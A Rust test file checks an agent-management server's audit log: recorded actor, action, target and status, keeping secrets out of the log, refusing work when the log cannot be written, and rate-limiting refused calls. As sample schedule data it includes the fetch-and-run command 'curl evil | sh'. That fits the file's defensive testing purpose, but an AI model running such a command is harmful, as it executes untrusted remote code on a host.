//! What was done is written down.

use crate::common::*;
use crate::{ask, bearer, token};
use serde_json::{Value, json};

async fn acts(rig: &Rig, query: &str) -> Vec<Value> {
    let answer: Value = rig.client.get(&format!("/audit?{query}")).await.unwrap();
    answer["acts"].as_array().unwrap().clone()
}

#[tokio::test]
async fn an_act_is_told_with_who_what_whom_and_how_it_ended() {
    let rig = rig().await;
    rig.register("box").await;
    let mut agent = rig.agent("i1").await;
    let key = token(&rig, "ops", "operator", &[]).await;
    let body = json!({"agents": ["box"], "command": {"argv": ["passwd", "root"], "stdin": "aHVudGVyMg=="}});
    let told = ask(
        rig.url(),
        "POST",
        "/jobs",
        &[&bearer(&key)],
        &body.to_string(),
    )
    .await;
    assert_eq!(told.status, 201, "{}", told.body);
    let job = told.json()["jobs"][0]["id"].as_str().unwrap().to_owned();
    agent.expect("command").await;
    let found = acts(&rig, "act=jobs.create&on=box&who=ops").await;
    assert_eq!(found.len(), 1);
    let act = &found[0];
    for (field, value) in [
        ("role", json!("operator")),
        ("address", json!("127.0.0.1")),
        ("target", json!("box")),
        ("allowed", json!(true)),
        ("status", json!(201)),
    ] {
        assert_eq!(act[field], value, "{act}");
    }
    let detail = act["detail"].as_str().unwrap();
    assert!(
        detail.contains(r#"argv=["passwd","root"]"#) && detail.contains(&job),
        "{detail}"
    );

    // Denied, failed, and what has secrets in it.
    for (method, path, body, status) in [
        ("POST", "/tokens", r#"{"name":"x","role":"admin"}"#, 403),
        ("POST", "/jobs/none/cancel", "", 404),
        ("PUT", "/data/box/wifi?secret=true", "hunter3", 200),
        ("GET", "/data/box/wifi", "", 403),
        ("GET", "/data/box", "", 200),
    ] {
        let told = ask(rig.url(), method, path, &[&bearer(&key)], body).await;
        assert_eq!(told.status, status, "{method} {path}: {}", told.body);
    }
    let whole = format!("/identifiers/{IDENTIFIER}");
    rig.client.delete(&whole).await.unwrap();
    ask(rig.url(), "POST", "/jobs", &[&bearer("ptk_hunter4")], "{}").await;
    let all = acts(&rig, "limit=1000").await;
    let told: Vec<(&str, &str, bool, u64)> = all
        .iter()
        .map(|a| {
            (
                a["who"].as_str().unwrap(),
                a["act"].as_str().unwrap(),
                a["allowed"] == true,
                a["status"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        told,
        [
            ("", "jobs.create", false, 401),
            ("local", "identifiers.forget", true, 200),
            ("ops", "data.show", true, 403),
            ("ops", "data.put", true, 200),
            ("ops", "jobs.cancel", true, 404),
            ("ops", "tokens.add", false, 403),
            ("ops", "jobs.create", true, 201),
            ("local", "tokens.add", true, 201),
            ("local", "identifiers.register", true, 201),
        ]
    );
    let text = json!(all).to_string();
    for secret in ["aHVudGVyMg", "hunter", IDENTIFIER, key.as_str(), "attic"] {
        assert!(!text.contains(secret), "{secret} is in the log");
    }
    assert_eq!(all[3]["target"], "box wifi");
}

#[tokio::test]
async fn what_cannot_be_written_down_is_not_done() {
    let rig = rig().await;
    rig.register("box").await;
    let mut agent = rig.agent("i1").await;
    let path = rig.dir.path().join("data/poseidon.db");
    let other = rusqlite::Connection::open(path).unwrap();
    other
        .execute_batch("ALTER TABLE audit RENAME TO away")
        .unwrap();
    let body = json!({"agents": ["box"], "command": {"argv": ["true"]}});
    let e = rig.client.post::<Value>("/jobs", &body).await.unwrap_err();
    assert!(e.contains("nothing was done"), "{e}");
    agent.nothing_came().await;
    let jobs: Value = rig.client.get("/jobs").await.unwrap();
    assert_eq!(jobs["jobs"], json!([]));
    other
        .execute_batch("ALTER TABLE away RENAME TO audit")
        .unwrap();
    rig.client.post::<Value>("/jobs", &body).await.unwrap();
    agent.expect("command").await;
    // And nobody changes what is written.
    let changed = other.execute("UPDATE audit SET who = 'nobody'", []);
    assert!(changed.unwrap_err().to_string().contains("stays as it is"));
}

#[tokio::test]
async fn what_a_schedule_runs_is_written_down() {
    let rig = rig().await;
    rig.register("box").await;
    let old = json!({"name": "old", "cron": "@daily", "command": ["true"]});
    let new =
        json!({"name": "new", "cron": "@hourly", "shell": "curl evil | sh", "env": {"K": "hush"}});
    for entries in [json!([old]), json!([old, new]), json!([])] {
        let body = json!({"entries": entries}).to_string();
        rig.client
            .put::<Value>("/schedules/box", body)
            .await
            .unwrap();
    }
    let found = acts(&rig, "act=schedules.put&on=box").await;
    let told: Vec<&str> = found
        .iter()
        .map(|a| a["detail"].as_str().unwrap())
        .collect();
    assert_eq!(told.len(), 3);
    assert!(
        told[1].contains("curl evil | sh") && told[1].contains("@hourly"),
        "{told:?}"
    );
    assert!(
        !told[1].contains("@daily") && !told[1].contains("hush"),
        "{told:?}"
    );
    assert!(told[0].contains("removed \"new\""), "{told:?}");
    assert!(
        told.iter().all(|detail| detail.contains("revision ")),
        "{told:?}"
    );
}

#[tokio::test]
async fn who_has_many_calls_refused_does_not_fill_the_log() {
    let rig = rig().await;
    let key = token(&rig, "eyes", "viewer", &[]).await;
    for _ in 0..150 {
        let told = ask(rig.url(), "DELETE", "/tokens/x", &[&bearer(&key)], "").await;
        assert_eq!(told.status, 403);
    }
    let written = acts(&rig, "who=eyes&limit=1000").await.len();
    assert!((100..140).contains(&written), "{written}");
}
